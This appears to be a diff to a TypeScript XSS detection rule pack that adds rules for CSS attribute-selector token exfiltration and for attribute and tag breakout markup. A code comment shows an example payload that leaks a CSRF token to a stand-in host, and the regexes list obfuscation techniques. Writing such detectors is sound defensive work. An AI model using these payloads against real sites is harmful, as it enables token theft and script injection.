@@ -375,6 +375,20 @@ export const XSS_RULES: readonly RegexRule[] = [
     pattern: /\burl\s{0,5}\(\s{0,5}['"]?[^)'"\s]{0,200}\.svgz?(?:[#?][^)'"\s]{0,100})?\s{0,5}['"]?\s{0,5}\)/,
     requires: /<style\b|<[a-z][^<>]{0,400}\bstyle\s{0,5}=/,
   },
+  {
+    id: 200143,
+    classification: 'Xss',
+    state: 'Exploitation',
+    risk: 70,
+    severity: 'critical',
+    confidence: 'high',
+    form: 'compact',
+    description: "XssAnalyzer: style rule matching a field's value by its first characters and loading a URL (CSS exfiltration of a token)",
+    // `input[name=csrf][value^=a]{background:url(//x/a)}`: one rule per guess, each fetching the
+    // attacker's URL when the page's field starts that way. Site style sheets select on what a
+    // value is (`[value="1"]`), never on how it starts, and load nothing for it.
+    pattern: /\[\s{0,5}value\s{0,5}[\^$*]=[^\]{}]{0,100}\][^{}]{0,100}\{[^{}]{0,300}\burl\s{0,5}\(/,
+  },
 ];
 
 /** Rules the markup reader reports (../html), by the effect they stand for. */
@@ -505,6 +519,16 @@ const PAGE_STRUCTURE_RULE: Rule = {
   description: 'XssAnalyzer: page-structure markup injection (document, style, meta, base, form, SVG, frame or plug-in tags)',
 };
 
+const TAG_EXIT_MARKUP_RULE: Rule = {
+  id: 200142,
+  classification: 'Xss',
+  state: 'Exploitation',
+  risk: 60,
+  severity: 'error',
+  confidence: 'high',
+  description: 'XssAnalyzer: attribute value and tag closed, then markup added (`"><b>`)',
+};
+
 const byId = (id: number): Rule => XSS_RULES.find((r) => r.id === id) as Rule;
 const EFFECT_RULES: ReadonlyArray<readonly [number, Rule]> = [
   [MarkupEffect.ScriptElement, byId(200101)],
@@ -523,6 +547,7 @@ const EFFECT_RULES: ReadonlyArray<readonly [number, Rule]> = [
   [MarkupEffect.RepetitionTemplate, REPETITION_TEMPLATE_RULE],
   [MarkupEffect.BacktrackingPattern, BACKTRACKING_PATTERN_RULE],
   [MarkupEffect.PageStructure, PAGE_STRUCTURE_RULE],
+  [MarkupEffect.TagExitMarkup, TAG_EXIT_MARKUP_RULE],
 ];
 const UTF7_RULE = byId(200113);
 
@@ -620,7 +645,8 @@ function inspectXss(v: InspectedValue, report: (rule: Rule) => void): void {
   if (hiding > 0) report(hiding > 1 ? CODE_HIDING_REPEATED_RULE : CODE_HIDING_RULE);
   const lower = v.lower;
   if (lower.indexOf('<') >= 0 || lower.indexOf('=') >= 0) {
-    const mask = (v.noisy ? BLOB_EFFECTS : ~0) & (JSON_DOCUMENT_START.test(lower) ? ~(MarkupEffect.Markup | MarkupEffect.PageStructure) : ~0);
+    const mask =
+      (v.noisy ? BLOB_EFFECTS : ~0) & (JSON_DOCUMENT_START.test(lower) ? ~(MarkupEffect.Markup | MarkupEffect.PageStructure | MarkupEffect.TagExitMarkup) : ~0);
     let effects = markupEffects(lower) & mask;
     if ((effects & MarkupEffect.PageStructure) !== 0 && isWholeDocument(lower)) effects &= ~MarkupEffect.PageStructure;
     reportEffects(effects, report);
@@ -655,7 +681,7 @@ const PREFILTER =
  * inside its brackets, `! [ ]`), so the expression stays a fast scan.
  */
 const TECHNIQUE_MARKERS =
-  /[!+~]\s{0,3}\[\s{0,3}\]|\[\s{1,3}\]|\]\s{0,3}\[\s{0,3}\[|\? ?(?:''|""|\x60\x60)|\/ ?[!=]==? ?\/|[\s;{(,=!&|?:]\d\[|\{\s{0,3}\}\s{0,3}\+|\uff9f|\u309a|tostring|atob|unescape|decodeuri|setimmediate|with\s{0,5}\(|import\s{0,5}[(`]|__parent__|getscript|globaleval|createelement|\.\s{0,3}source|&a[dc]|res:\/\/|mhtml:|ms-its:|msitstore|firefoxurl:|navigatorurl:|hcp:\/\//;
+  /[!+~]\s{0,3}\[\s{0,3}\]|\[\s{1,3}\]|\]\s{0,3}\[\s{0,3}\[|\? ?(?:''|""|\x60\x60)|\/ ?[!=]==? ?\/|[\s;{(,=!&|?:]\d\[|\{\s{0,3}\}\s{0,3}\+|\uff9f|\u309a|tostring|atob|unescape|decodeuri|setimmediate|with\s{0,5}\(|import\s{0,5}[(`]|__parent__|getscript|globaleval|createelement|\.\s{0,3}source|&a[dc]|res:\/\/|mhtml:|ms-its:|msitstore|firefoxurl:|navigatorurl:|hcp:\/\/|value\s{0,3}[\^$*]=/;
 
 /**
  * What compactForm removes, between two letters (see ../decode/compact-form.ts): a word split for
@@ -672,6 +698,7 @@ const MAX_SPLIT_VALUE = 4096;
 const DOCUMENT_RULES: ReadonlySet<Rule> = new Set([
   MARKUP_RULE,
   PAGE_STRUCTURE_RULE,
+  TAG_EXIT_MARKUP_RULE,
   ATTRIBUTE_BREAKOUT_RULE,
   RAW_TEXT_BREAKOUT_RULE,
   DOM_CLOBBERING_RULE,
@@ -702,6 +729,7 @@ export const xssPack: RulePack = {
     CODE_HIDING_RULE,
     CODE_HIDING_REPEATED_RULE,
     PAGE_STRUCTURE_RULE,
+    TAG_EXIT_MARKUP_RULE,
   ],
   // Rules that read the compact form see through what splits a word for a filter (`f/**/unction`,
   // `ja\tvascript`, zero-width characters, `<!-- -->`, CSS escapes): so does the prefilter.
